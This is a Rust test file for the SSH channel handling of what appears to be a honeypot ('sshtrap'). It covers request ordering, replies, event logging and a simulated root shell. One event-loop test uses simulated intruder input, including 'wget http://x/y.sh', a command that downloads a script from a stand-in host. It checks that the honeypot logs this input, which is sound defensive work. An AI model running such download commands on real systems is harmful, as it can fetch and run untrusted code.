// Tests for src/ssh/channel.rs
//
// Tests cover:
// - Request ordering rules (pty-req / shell / exec / env / subsystem)
// - Reply behaviour per request type and want_reply flag, answered before any
//   program output
// - Events emitted per request and the per-type request counter
// - The channel event loop: session / session_input / session_close events,
//   teardown of idle channels, a full interactive session

use sshtrap::audit::events::{EventRecord, LogEntry};
use sshtrap::context::AppContext;
use sshtrap::shell::input::INPUT_LOG_CAPACITY;
use sshtrap::ssh::channel::{serve_channel, ChannelRequest, ChannelSession, RequestError};
use sshtrap::ssh::payload::{encode_terminal_modes, CommandRequestPayload};
use sshtrap::ssh::transport::ChannelTransport;
use sshtrap::test_utils::{
    drain_event_types, test_app_context, test_config, test_connection, Op, RecordingChannel,
};
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::mpsc;

// ---------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------

struct Fixture {
    session: ChannelSession,
    channel: Arc<RecordingChannel>,
    data: mpsc::Sender<Vec<u8>>,
    events: mpsc::Receiver<EventRecord>,
    app: Arc<AppContext>,
    /// Answers sent back, in order.
    replies: Vec<bool>,
    _input_log: mpsc::Receiver<String>,
}

impl Fixture {
    /// Handle one request, recording the answer if one was sent.
    async fn send(&mut self, mut req: ChannelRequest) -> Result<(), RequestError> {
        let answer = req.reply_channel();
        let result = self.session.handle_request(req).await;
        if let Ok(ok) = answer.await {
            self.replies.push(ok);
        }
        result
    }
}

fn fixture() -> Fixture {
    let (app, events) = test_app_context(test_config());
    let conn = test_connection(app.clone(), "root");
    let channel = RecordingChannel::new();
    let transport: Arc<dyn ChannelTransport> = channel.clone();
    let (data, input) = mpsc::channel(16);
    let (input_log, input_log_rx) = mpsc::channel(INPUT_LOG_CAPACITY);
    let session = ChannelSession::new(3, conn, transport, input, input_log);
    Fixture {
        session,
        channel,
        data,
        events,
        app,
        replies: Vec::new(),
        _input_log: input_log_rx,
    }
}

fn pty_req() -> ChannelRequest {
    ChannelRequest::from_payload(
        &CommandRequestPayload::Pty {
            term: "xterm-256color".into(),
            width: 80,
            height: 24,
            pixel_width: 0,
            pixel_height: 0,
            modes: encode_terminal_modes(&[(53, 1)]),
        },
        true,
    )
}

fn shell_req() -> ChannelRequest {
    ChannelRequest::from_payload(&CommandRequestPayload::Shell, true)
}

fn exec_req(command: &str) -> ChannelRequest {
    ChannelRequest::from_payload(
        &CommandRequestPayload::Exec {
            command: command.into(),
        },
        true,
    )
}

fn env_req(want_reply: bool) -> ChannelRequest {
    ChannelRequest::from_payload(
        &CommandRequestPayload::Env {
            name: "LANG".into(),
            value: "C.UTF-8".into(),
        },
        want_reply,
    )
}

fn window_change_req() -> ChannelRequest {
    ChannelRequest::from_payload(
        &CommandRequestPayload::WindowChange {
            width: 120,
            height: 40,
            pixel_width: 0,
            pixel_height: 0,
        },
        true,
    )
}

async fn within<F: std::future::Future>(fut: F) -> F::Output {
    tokio::time::timeout(Duration::from_secs(5), fut)
        .await
        .expect("timed out")
}

// ---------------------------------------------------------------------------
// pty-req
// ---------------------------------------------------------------------------

#[tokio::test]
async fn test_pty_request_accepted_and_logged() {
    let mut f = fixture();
    f.send(pty_req()).await.unwrap();

    assert!(f.session.is_pty());
    assert!(!f.session.is_active());
    assert_eq!(f.replies, vec![true]);

    let record = f.events.try_recv().unwrap();
    assert_eq!(
        record.entry,
        LogEntry::Pty {
            channel_id: 3,
            terminal: "xterm-256color".into(),
            width: 80,
            height: 24,
        }
    );
}

#[tokio::test]
async fn test_second_pty_request_rejected_channel_stays_usable() {
    let mut f = fixture();
    f.send(pty_req()).await.unwrap();

    let err = f.send(pty_req()).await.unwrap_err();
    assert_eq!(err, RequestError::PtyAlreadyRequested);
    assert_eq!(err.to_string(), "a pty was already requested");
    assert_eq!(f.replies, vec![true, false]);

    f.send(shell_req()).await.unwrap();
    assert!(f.session.is_active());
    assert_eq!(f.replies, vec![true, false, true]);
}

#[tokio::test]
async fn test_pty_after_exec_rejected() {
    let mut f = fixture();
    f.send(exec_req("cat")).await.unwrap();

    let err = f.send(pty_req()).await.unwrap_err();
    assert_eq!(err, RequestError::PtyAfterActivation);
    assert!(!f.session.is_pty());
    drop(f.data);
    within(f.channel.wait_closed()).await;
}

#[tokio::test]
async fn test_malformed_pty_rejected() {
    let mut f = fixture();
    let req = ChannelRequest::new("pty-req", true, vec![0, 0, 0, 5, b'x']);
    let err = f.send(req).await.unwrap_err();
    assert!(matches!(err, RequestError::Malformed(_)));
    assert!(!f.session.is_pty());
    assert_eq!(f.replies, vec![false]);
    assert!(drain_event_types(&mut f.events).is_empty());
}

// ---------------------------------------------------------------------------
// shell / exec
// ---------------------------------------------------------------------------

#[tokio::test]
async fn test_shell_with_payload_rejected() {
    let mut f = fixture();
    let req = ChannelRequest::new("shell", true, vec![1]);
    let err = f.send(req).await.unwrap_err();
    assert_eq!(err, RequestError::UnexpectedPayload);
    assert!(!f.session.is_active());
    assert_eq!(f.replies, vec![false]);
}

#[tokio::test]
async fn test_pty_shell_runs_interactive_shell() {
    let mut f = fixture();
    f.send(pty_req()).await.unwrap();
    f.send(shell_req()).await.unwrap();
    assert!(f.session.is_active());
    assert_eq!(drain_event_types(&mut f.events), vec!["pty", "shell"]);

    within(f.channel.wait_for_stdout("root@testhost:/home/guest# ")).await;

    // Client hangs up without typing anything.
    drop(f.data);
    within(f.channel.wait_closed()).await;

    assert_eq!(
        f.channel.control_ops(),
        vec![
            Op::ExitStatus(0),
            Op::EndOfWrite,
            Op::CloseWrite,
            Op::Close,
        ]
    );
    assert!(f.channel.stdout().ends_with("\r\n"));
    assert_eq!(f.replies, vec![true, true]);
}

#[tokio::test]
async fn test_exec_echo_runs_and_closes_in_order() {
    let mut f = fixture();
    f.send(exec_req("echo hello world")).await.unwrap();
    assert!(f.session.is_active());

    within(f.channel.wait_closed()).await;
    assert_eq!(f.replies, vec![true]);
    assert_eq!(
        f.channel.ops(),
        vec![
            Op::Stdout(b"hello world\n".to_vec()),
            Op::ExitStatus(0),
            Op::EndOfWrite,
            Op::CloseWrite,
            Op::Close,
        ]
    );
    let record = f.events.try_recv().unwrap();
    assert_eq!(
        record.entry,
        LogEntry::Exec {
            channel_id: 3,
            command: "echo hello world".into(),
        }
    );
}

#[tokio::test]
async fn test_exec_blank_command_exits_zero_without_program() {
    let mut f = fixture();
    f.send(exec_req("   ")).await.unwrap();

    assert!(f.session.is_active());
    assert_eq!(f.replies, vec![true]);
    assert_eq!(
        f.channel.ops(),
        vec![
            Op::ExitStatus(0),
            Op::EndOfWrite,
            Op::CloseWrite,
            Op::Close,
        ]
    );
}

#[tokio::test]
async fn test_second_exec_rejected() {
    let mut f = fixture();
    f.send(exec_req("true")).await.unwrap();
    let err = f.send(exec_req("id")).await.unwrap_err();
    assert_eq!(err, RequestError::AlreadyActive);
    assert_eq!(err.to_string(), "session already active");
}

#[tokio::test]
async fn test_shell_after_exec_rejected() {
    let mut f = fixture();
    f.send(exec_req("true")).await.unwrap();
    let err = f.send(shell_req()).await.unwrap_err();
    assert_eq!(err, RequestError::AlreadyActive);
}

#[tokio::test]
async fn test_truncated_exec_leaves_channel_idle() {
    let mut f = fixture();
    let req = ChannelRequest::new("exec", true, vec![0, 0, 0, 9, b'l', b's']);
    let err = f.send(req).await.unwrap_err();
    assert!(matches!(err, RequestError::Malformed(_)));
    assert!(!f.session.is_active());
    assert_eq!(f.replies, vec![false]);

    f.send(exec_req("true")).await.unwrap();
    assert!(f.session.is_active());
}

// ---------------------------------------------------------------------------
// env / subsystem / window-change / x11 / signal / unknown
// ---------------------------------------------------------------------------

#[tokio::test]
async fn test_env_before_activation_acknowledged() {
    let mut f = fixture();
    f.send(env_req(true)).await.unwrap();
    assert_eq!(f.replies, vec![true]);
    assert_eq!(
        f.events.try_recv().unwrap().entry,
        LogEntry::Env {
            channel_id: 3,
            name: "LANG".into(),
            value: "C.UTF-8".into(),
        }
    );
}

#[tokio::test]
async fn test_env_without_want_reply_is_silent() {
    let mut f = fixture();
    f.send(env_req(false)).await.unwrap();
    assert!(f.replies.is_empty());
    assert!(f.channel.ops().is_empty());
    assert_eq!(drain_event_types(&mut f.events), vec!["env"]);
}

#[tokio::test]
async fn test_env_after_activation_rejected() {
    let mut f = fixture();
    f.send(exec_req("true")).await.unwrap();
    let err = f.send(env_req(true)).await.unwrap_err();
    assert_eq!(err, RequestError::EnvAfterActivation);
}

#[tokio::test]
async fn test_subsystem_always_refused_but_logged() {
    let mut f = fixture();
    let req = ChannelRequest::from_payload(
        &CommandRequestPayload::Subsystem {
            name: "sftp".into(),
        },
        true,
    );
    f.send(req).await.unwrap();
    assert_eq!(f.replies, vec![false]);
    assert!(!f.session.is_active());
    assert_eq!(
        f.events.try_recv().unwrap().entry,
        LogEntry::Subsystem {
            channel_id: 3,
            subsystem: "sftp".into(),
        }
    );
}

#[tokio::test]
async fn test_subsystem_after_activation_rejected_before_decode() {
    let mut f = fixture();
    f.send(exec_req("true")).await.unwrap();
    drain_event_types(&mut f.events);

    let req = ChannelRequest::new("subsystem", true, b"garbage".to_vec());
    let err = f.send(req).await.unwrap_err();
    assert_eq!(err, RequestError::AlreadyActive);
    assert!(drain_event_types(&mut f.events).is_empty());
}

#[tokio::test]
async fn test_window_change_without_pty_never_replied() {
    let mut f = fixture();
    let err = f.send(window_change_req()).await.unwrap_err();
    assert_eq!(err, RequestError::WindowChangeWithoutPty);
    assert!(f.replies.is_empty());
    assert!(f.channel.ops().is_empty());
}

#[tokio::test]
async fn test_window_change_with_pty_logged_not_replied() {
    let mut f = fixture();
    f.send(pty_req()).await.unwrap();
    f.send(window_change_req()).await.unwrap();

    assert_eq!(f.replies, vec![true]);
    assert_eq!(drain_event_types(&mut f.events), vec!["pty", "window_change"]);
}

#[tokio::test]
async fn test_x11_refused() {
    let mut f = fixture();
    let req = ChannelRequest::from_payload(
        &CommandRequestPayload::X11 {
            single_connection: false,
            auth_protocol: "MIT-MAGIC-COOKIE-1".into(),
            auth_cookie: "00ff".into(),
            screen: 0,
        },
        true,
    );
    f.send(req).await.unwrap();
    assert_eq!(f.replies, vec![false]);
    assert_eq!(
        f.events.try_recv().unwrap().entry,
        LogEntry::X11 {
            channel_id: 3,
            screen: Some(0),
        }
    );
}

#[tokio::test]
async fn test_malformed_x11_refused_and_still_logged() {
    let mut f = fixture();
    let req = ChannelRequest::new("x11-req", true, vec![0, 0, 0]);
    let err = f.send(req).await.unwrap_err();
    assert!(matches!(err, RequestError::Malformed(_)));
    assert_eq!(f.replies, vec![false]);
    assert_eq!(
        f.events.try_recv().unwrap().entry,
        LogEntry::X11 {
            channel_id: 3,
            screen: None,
        }
    );
}

#[tokio::test]
async fn test_request_without_reply_slot_is_handled() {
    let mut f = fixture();
    f.session.handle_request(pty_req()).await.unwrap();
    assert!(f.session.is_pty());
    assert!(f.channel.ops().is_empty());
}

#[tokio::test]
async fn test_signal_ignored_without_reply() {
    let mut f = fixture();
    let req = ChannelRequest::new("signal", false, sshtrap::ssh::payload::encode_signal("INT"));
    f.send(req).await.unwrap();
    assert!(f.replies.is_empty());
    assert!(f.channel.ops().is_empty());
}

#[tokio::test]
async fn test_unknown_request_refused_and_counted() {
    let mut f = fixture();
    let req = ChannelRequest::new("keepalive@openssh.com", true, Vec::new());
    let err = f.send(req).await.unwrap_err();
    assert_eq!(
        err,
        RequestError::Unsupported("keepalive@openssh.com".into())
    );
    assert_eq!(f.replies, vec![false]);
    assert_eq!(f.app.metrics.channel_requests("unknown"), 1);
    assert_eq!(f.app.metrics.channel_requests("keepalive@openssh.com"), 0);
}

#[tokio::test]
async fn test_every_request_counted_by_type() {
    let mut f = fixture();
    f.send(pty_req()).await.unwrap();
    let _ = f.send(pty_req()).await;
    f.send(env_req(false)).await.unwrap();
    assert_eq!(f.app.metrics.channel_requests("pty-req"), 2);
    assert_eq!(f.app.metrics.channel_requests("env"), 1);
    assert_eq!(f.app.metrics.channel_requests("shell"), 0);
}

// ---------------------------------------------------------------------------
// Event loop
// ---------------------------------------------------------------------------

#[tokio::test]
async fn test_event_loop_logs_session_lifecycle_and_input() {
    let (app, mut events) = test_app_context(test_config());
    let conn = test_connection(app.clone(), "root");
    let channel = RecordingChannel::new();
    let (data_tx, data_rx) = mpsc::channel(16);
    let (req_tx, req_rx) = mpsc::unbounded_channel();

    let task = tokio::spawn(serve_channel(7, conn, channel.clone(), data_rx, req_rx));

    req_tx.send(exec_req("cat")).unwrap();
    data_tx.send(b"uname -a\nwget http://x/y.sh\n".to_vec()).await.unwrap();
    within(channel.wait_for_stdout("y.sh")).await;
    drop(data_tx);
    drop(req_tx);
    within(task).await.unwrap();

    let mut entries = Vec::new();
    while let Ok(record) = events.try_recv() {
        entries.push(record.entry);
    }
    assert_eq!(entries.first(), Some(&LogEntry::Session { channel_id: 7 }));
    assert_eq!(entries.last(), Some(&LogEntry::SessionClose { channel_id: 7 }));
    assert!(entries.contains(&LogEntry::SessionInput {
        channel_id: 7,
        input: "uname -a".into(),
    }));
    assert!(entries.contains(&LogEntry::SessionInput {
        channel_id: 7,
        input: "wget http://x/y.sh".into(),
    }));
    assert!(entries
        .iter()
        .any(|e| matches!(e, LogEntry::DebugChannelRequest { request_type, .. } if request_type == "exec")));

    assert_eq!(channel.stdout(), "uname -a\nwget http://x/y.sh\n");
    assert_eq!(app.metrics.active_session_channels.get(), 0);
    assert_eq!(app.metrics.session_channels_total.get(), 1);
}

#[tokio::test]
async fn test_event_loop_ends_for_idle_channel() {
    let (app, mut events) = test_app_context(test_config());
    let conn = test_connection(app.clone(), "root");
    let channel = RecordingChannel::new();
    let (_data_tx, data_rx) = mpsc::channel(16);
    let (req_tx, req_rx) = mpsc::unbounded_channel();

    let task = tokio::spawn(serve_channel(0, conn, channel.clone(), data_rx, req_rx));
    req_tx.send(env_req(false)).unwrap();
    drop(req_tx);
    within(task).await.unwrap();

    assert_eq!(
        drain_event_types(&mut events),
        vec!["session", "debug_channel_request", "env", "session_close"]
    );
    assert!(channel.ops().is_empty());
}

#[tokio::test]
async fn test_event_loop_survives_rejected_requests() {
    let (app, _events) = test_app_context(test_config());
    let conn = test_connection(app, "root");
    let channel = RecordingChannel::new();
    let (_data_tx, data_rx) = mpsc::channel(16);
    let (req_tx, req_rx) = mpsc::unbounded_channel();

    let task = tokio::spawn(serve_channel(0, conn, channel.clone(), data_rx, req_rx));
    let mut answers = Vec::new();
    for mut req in [pty_req(), pty_req(), exec_req("id")] {
        answers.push(req.reply_channel());
        req_tx.send(req).unwrap();
    }
    drop(req_tx);
    within(task).await.unwrap();

    let mut replies = Vec::new();
    for answer in answers {
        replies.push(answer.await.unwrap());
    }
    assert_eq!(replies, vec![true, false, true]);
    assert!(channel.stdout().contains("uid=0(root)"));
}

#[tokio::test]
async fn test_event_loop_interactive_session_in_order() {
    let (app, mut events) = test_app_context(test_config());
    let conn = test_connection(app, "root");
    let channel = RecordingChannel::new();
    let (data_tx, data_rx) = mpsc::channel(16);
    let (req_tx, req_rx) = mpsc::unbounded_channel();
    let task = tokio::spawn(serve_channel(2, conn, channel.clone(), data_rx, req_rx));

    let mut pty = pty_req();
    let pty_answer = pty.reply_channel();
    req_tx.send(pty).unwrap();
    assert!(within(pty_answer).await.unwrap());

    let mut shell = shell_req();
    let shell_answer = shell.reply_channel();
    req_tx.send(shell).unwrap();
    assert!(within(shell_answer).await.unwrap());

    within(channel.wait_for_stdout("root@testhost:/home/guest# ")).await;
    data_tx.send(b"cd /etc\r".to_vec()).await.unwrap();
    data_tx.send(b"pwd\r".to_vec()).await.unwrap();
    within(channel.wait_for_stdout("/home/guest\r\nroot@testhost:/home/guest# ")).await;

    // Client sends EOF, then closes the channel. The last command succeeded.
    drop(data_tx);
    within(channel.wait_closed()).await;
    drop(req_tx);
    within(task).await.unwrap();

    let stdout = channel.stdout();
    assert!(stdout.contains("testhost: cd: /etc: Permission denied\r\n"));
    assert!(stdout.ends_with("\r\n"));
    assert_eq!(
        channel.control_ops(),
        vec![Op::ExitStatus(0), Op::EndOfWrite, Op::CloseWrite, Op::Close]
    );

    let mut inputs = Vec::new();
    let mut types = Vec::new();
    while let Ok(record) = events.try_recv() {
        types.push(record.entry.event_type());
        if let LogEntry::SessionInput { input, .. } = record.entry {
            inputs.push(input);
        }
    }
    assert_eq!(inputs, vec!["cd /etc", "pwd"]);
    assert_eq!(types.first(), Some(&"session"));
    assert_eq!(types.last(), Some(&"session_close"));
    assert!(types.contains(&"pty") && types.contains(&"shell"));
}
